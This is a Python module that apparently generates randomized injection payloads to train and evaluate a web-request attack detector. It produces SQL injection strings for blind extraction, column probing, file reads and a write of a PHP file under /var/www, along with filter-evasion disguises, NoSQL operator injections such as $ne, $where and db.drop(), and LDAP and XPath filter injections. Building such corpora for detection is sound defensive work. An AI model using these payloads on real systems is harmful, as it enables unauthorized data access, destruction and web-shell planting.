"""Quieter techniques: a bit at a time, clauses, bare expressions, disguises; document stores and directories."""

from __future__ import annotations

import random
from collections.abc import Callable

from weir_models.request_attack.corpus.grammars.sql import (
    COLUMNS,
    FUNCTIONS,
    TABLES,
    boolean,
    closing,
    error,
    finish,
    logic,
    number,
    opening,
    select,
    sign_in,
    stacked,
    time,
    truth,
    union,
)
from weir_models.request_attack.corpus.placing import word

R = random.Random


def blind(r: R) -> str:
    """One character at a time."""
    n = r.randint(1, 40)
    inner = f"(select {r.choice(COLUMNS)} from {r.choice(TABLES)} limit 1)"
    payload = r.choice((f"ascii(substring({inner},{n},1))>{n + 30}", f"substr({r.choice(FUNCTIONS)},{n},1)='{r.choice('abc5')}'",
        f"length({inner})={n}", f"(select count(*) from {r.choice(TABLES)})>{n}", f"ord(mid({inner},{n},1))&{n}",
        f"{inner} like '{r.choice('abc')}%'", f"exists({select(r)})", f"case when ({truth(r)}) then 1 else 0 end",
        f"unicode(substring(({select(r)}),{n},1))={n}", f"bin(ascii({r.choice(FUNCTIONS)}))", f"left({r.choice(FUNCTIONS)},{n})='{n}'",
        f"if({truth(r)},1,0)", f"nullif(ascii(substr({r.choice(COLUMNS)},{n},1)),{n})"))  # fmt: skip
    return finish(r, f"{opening(r)} {logic(r)} {payload}{closing(r)}")


def order(r: R) -> str:
    """How many columns there are, and clauses that end a query."""
    return finish(r, r.choice((f"{opening(r)} order by {r.randint(1, 60)}{closing(r)}",
        f"{opening(r)} group by {r.choice(COLUMNS)} having 1=1{closing(r)}", f"{opening(r)} having {truth(r)}{closing(r)}",
        f"{opening(r)} limit {r.randint(0, 9)},{r.randint(1, 9)}{closing(r)}",
        f"{number(r)} order by {r.randint(2, 90)}{r.choice(('--', '#', '-- -', '/*'))}",
        f"{opening(r)} group by {r.randint(1, 9)}{closing(r)}", f"{opening(r)} into outfile '/var/www/{word(r)}.php'{closing(r)}",
        f"{opening(r)} procedure analyse(){closing(r)}")))  # fmt: skip


def bare(r: R) -> str:
    """An expression or statement alone, as it stands in a numeric parameter or a field for a query."""
    return finish(r, r.choice((select(r), f"({select(r)})", f"{number(r)}-({select(r)})", f"{number(r)} and {truth(r)}",
        f"{number(r)} or {truth(r)}", f"case when {truth(r)} then {number(r)} else {number(r)} end", f"{r.choice(FUNCTIONS)}",
        f"char({number(r) % 120})||char({number(r) % 120})||{r.choice(FUNCTIONS)}",
        f"concat({r.choice(FUNCTIONS)},0x3a,{r.choice(FUNCTIONS)})", f"{number(r)}/(select case when {truth(r)} then 1 else 0 end)",
        f"load_file('/{word(r)}')", f"insert into {r.choice(TABLES)} ({r.choice(COLUMNS)}) values ('{word(r)}')",
        f"{word(r)}'||{r.choice(FUNCTIONS)}||'{word(r)}", f"{word(r)}'+({select(r)})+'{word(r)}", f"iif({truth(r)},{number(r)},1/0)",
        f"{number(r)}*(case when ({truth(r)}) then 1 else 2 end)")))  # fmt: skip


def disguised(r: R) -> str:
    """Version comments, scientific numbers, brackets for spaces."""
    text = r.choice((union, boolean, blind))(r)
    for keyword in ("union", "select", "from", "where", "and", "or"):
        if r.random() < 0.7:
            text = text.replace(f" {keyword} ", r.choice((f"/*!{keyword}*/", f"/*!50000{keyword}*/", f"/**/{keyword}/**/",
                f" {keyword.upper()}\n", f"%0b{keyword}%0b", f"\xa0{keyword}\xa0", f"({keyword})" if keyword == "x" else f" {keyword}(")))  # fmt: skip
    return text


def document(r: R) -> str:
    """Operators and code for document stores."""
    field, n = word(r), number(r)
    return r.choice(('{"$ne": null}', f'{{"{field}": {{"$gt": ""}}}}', f"{field}[$ne]={n}", "[$regex]=.*",
        f"'; return true; var x='{field}", "' || 1==1 || '", f"{{$where: 'this.{field} == {n}'}}", f"true, $where: '{n} == {n}'",
        f"db.{field}.drop();", f"db.{field}.find({{}})", f"1;var d=new Date();do{{c=new Date();}}while(c-d<{n})",
        f'{{"$or":[{{}},{{"{field}":"{n}"}}]}}', f"', $or: [ {{}}, {{ '{field}':'{field}", f"' || this.{field}.match(/.*/) || '",
        f'{{"{field}":{{"$in":["admin","root"]}}}}', f"{field}[$exists]=true", f"';sleep({n});'", "0;return(true)"))  # fmt: skip


def directory(r: R) -> str:
    """Filters for directories and XPath."""
    field = word(r)
    return r.choice((f"*)({field}=*", f"*)(|({field}=*))", "admin)(&)", f"(&({field}=admin)(!({field}=x)))", "*(|(objectclass=*))",
        "*)(uid=*))(|(uid=*", f"{field})(|(password=*))", f"(|(uid={field})(objectclass=*))", "' or '1'='1' or ''='",
        "' or count(//*)>0 or 'a'='b", f"'] | //{field}[text()='", f"' and string-length(name(/*[1]))>{number(r)} and '1'='1",
        f"x' or name()='{field}' or 'x'='y", f"userPassword:{number(r)}.5.13.18:={field}", f"(!(objectClass={field}))"))  # fmt: skip


FAMILIES: tuple[tuple[str, str, str, float, Callable[[R], str]], ...] = (
    ("sqli", "boolean", "fit", 2.0, boolean), ("sqli", "sign_in", "calibrate", 1.0, sign_in), ("sqli", "union", "fit", 2.0, union), ("sqli", "time", "fit", 1.5, time), ("sqli", "error", "evaluate", 1.5, error), ("sqli", "stacked", "calibrate", 1.0, stacked), ("sqli", "blind", "fit", 1.5, blind), ("sqli", "order", "evaluate", 1.0, order), ("sqli", "bare", "fit", 1.5, bare), ("sqli", "disguised", "evaluate", 1.0, disguised), ("sqli", "document", "fit", 0.7, document), ("sqli", "directory", "evaluate", 0.7, directory),
)  # fmt: skip
